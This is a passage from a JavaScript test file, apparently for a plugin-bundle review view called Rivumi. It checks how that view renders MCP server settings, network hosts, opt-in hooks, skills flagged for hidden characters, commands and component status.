      '      span.codicon.codicon-terminal aria-hidden=true',
      '      span.mono "db"',
      '      span.pill "stdio"',
      '      span.pill.on "on"',
      '    dl',
      '      dt "command"',
      '      dd',
      '        span.mono "node"',
      '      dt "argv"',
      '      dd',
      '        div.argv',
      '          span.argtoken.plugin-path title="a file inside this bundle"',
      '            span.argnum "#0"',
      '            span "server.js"',
      '          span.argtoken.value title="a literal argument"',
      '            span.argnum "#1"',
      '            span "--port=1"',
      '      dt "cwd"',
      '      dd',
      '        span.mono "srv"',
      '      dt "env"',
      '      dd',
      '        div.mono',
      '          div',
      '            span',
      '              span "DB_URL"',
      '              span " ← ${"',
      '              span "HOST_DB"',
      '              span "}"',
      '      dt "authority"',
      '      dd.warn "runs as you, with your files and network"',
      '      dt "timeouts"',
      '      dd.mono "startup 10s, tool 60s"',
      '      dt "enabled tools"',
      '      dd',
      '        span.mono',
      '          span "query"',
      '          span ", "',
      '          span "list"',
      '      dt "disabled tools"',
      '      dd',
      '        span.mono',
      '          span "drop"',
      '      dt "required"',
      '      dd',
      '        span.mono "yes"',
      '  div.card',
      '    div.card-title',
      '      span.codicon.codicon-globe aria-hidden=true',
      '      span.mono "api"',
      '      span.pill "http"',
      '      span.pill.muted "off: the bundle is not active"',
      '    dl',
      '      dt "endpoint"',
      '      dd',
      '        span.mono "https://api.example.com/mcp"',
      '      dt "host"',
      '      dd',
      '        span.mono "api.example.com"',
      '      dt "auth"',
      '      dd',
      '        div.mono',
      '          div',
      '            span "Authorization: Bearer ${TOKEN}"',
      '  div.card',
      '    div.card-title',
      '      span.codicon.codicon-terminal aria-hidden=true',
      '      span.mono "bare"',
      '      span.pill "stdio"',
      '      span.pill.off "off"',
      '    dl',
      '      dt "command"',
      '      dd',
      '        span.mono "bare"',
      '      dt "argv"',
      '      dd.mono "(none)"',
      '      dt "env"',
      '      dd.mono "(none)"',
      '      dt "endpoint"',
      '      dd',
      '        span.mono "http://h"',
      '      dt "auth"',
      '      dd.mono "(none)"',
      '  h3 "Network hosts"',
      '  ul.chips',
      '    li.mono',
      '      span "api.example.com"',
      '    li.mono',
      '      span "db.example.com"',
      '  h3 "Hooks (run host commands)"',
      '  p.hooks-when "Rivumi runs these when RIVUMI_HOOKS=1."',
      '  p.muted "RIVUMI_HOOKS is not set here: these hooks do not run."',
      '  table.hooks',
      '    thead',
      '      tr',
      '        th "event" scope=col',
      '        th "command" scope=col',
      '        th "timeout" scope=col',
      '        th "tools" scope=col',
      '        th "working directory" scope=col',
      '    tbody',
      '      tr',
      '        td "PreToolUse"',
      '        td.mono.wraps',
      '          span.token "sh"',
      '          span.sep " "',
      '          span.token "hooks/check.sh"',
      '        td "30s"',
      '        td.mono.wraps.tools',
      '          span',
      '            span "Bash"',
      '            span ", "',
      '            span "Edit"',
      '        td "the workspace folder"',
      '      tr.hook-files',
      '        td colspan=5',
      '          span.muted "Runs files: "',
      '          ul.hook-file-list',
      '            li.covered',
      '              span.codicon.codicon-pass aria-hidden=true',
      '              span.mono "hooks/check.sh"',
      '              span.muted " "',
      '              span.muted "covered: hashed with the bundle"',
      '            li.not-covered',
      '              span.codicon.codicon-error aria-hidden=true',
      '              span.mono "/tmp/x"',
      '              span.muted " "',
      '              span.muted "not covered: outside the bundle"',
      '          div.hook-after',
      '            span.codicon.codicon-warning aria-hidden=true',
      '            span "Runs, then denies whatever it answered."',
      '      tr',
      '        td "Stop"',
      '        td.mono.wraps',
      '          span.token "true"',
      '        td "5s"',
      '        td.mono.wraps.tools',
      '          span "all tools"',
      '        td "the workspace folder"',
      '      tr.hook-files',
      '        td colspan=5',
      '          span.muted "Runs no repository file (only programs on the host)."',
      '  h3 "Skills"',
      '  ul',
      '    li.skill',
      '      span.mono "review"',
      '      span.muted " — "',
      '      span "Reviews code"',
      '      details.body',
      '        summary "Show the skill"',
      '          span.flag "hidden characters"',
      '        pre.body-text.hidden-chars "Read the diff\\\\u{200b}"',
      '    li.skill',
      '      span.mono "plain"',
      '      span.muted " — "',
      '      span "No body"',
      '  h3 "Commands"',
      '  ul',
      '    li.command',
      '      span.mono "/deploy"',
      '      details.body',
      '        summary "Show the text the agent reads"',
      '        pre.body-text "ship it"',
      '    li.command',
      '      span.mono "/noop"',
      '  h3 "Components"',
      '  ul',
      '    li.component.active',
      '      span.mono "skills"',
      '      span.muted',
      '        span " from "',
      '        span',
      '          span "skills/"',
      '          span ", "',
      '          span "more/"',
      '      span " — "',
      '      span.activity.on "active"',
      '    li.component.not-active.inactive',
      '      span.mono "hooks"',
      '      span.muted',
      '      span " — "',
      '      span.activity.off "not active: the bundle is not trusted and enabled"',
    ]);
  });

  it('says when a bundle declares no capabilities, or when they cannot be read', () => {
    assert.deepEqual(outline(sectionOf(model(), 'capabilities')), [
      'section#capabilities',
      '  h2',
      '    span.codicon.codicon-plug aria-hidden=true',
      '    span "Capabilities"',
      '  p.muted "This bundle declares no capabilities."',
    ]);
    assert.deepEqual(
      outline(sectionOf(model({ capabilitiesUnknown: shown('The manifest does not load.') }), 'capabilities')),
      [
        'section#capabilities',
        '  h2',
        '    span.codicon.codicon-plug aria-hidden=true',
        '    span "Capabilities"',
        '  p.warn',
        '    span "The manifest does not load."',
      ],
    );
    // An agent whose hooks need no opt-in: nothing said of one.
    const noOptIn = model({ capabilities: { ...CAPABILITIES.capabilities, hooksOptIn: null, hooksOptInText: null } });
    assert.deepEqual(
      [...sectionOf(noOptIn, 'capabilities').children].filter((e) => e.tagName === 'p').flatMap((e) => outline(e)),
      ['p.hooks-when "Rivumi runs these when RIVUMI_HOOKS=1."'],
    );
    // Opted in: the opt-in said as a warning; no "when" without one.
    const optedIn = model({ capabilities: { ...CAPABILITIES.capabilities, hooksOptIn: true, hooksWhen: null } });
    const paragraphs = [...sectionOf(optedIn, 'capabilities').children].filter((e) => e.tagName === 'p');
    assert.deepEqual(paragraphs.map((e) => outline(e)).flat(), [
      'p.warn "RIVUMI_HOOKS is not set here: these hooks do not run."',
    ]);
  });
});
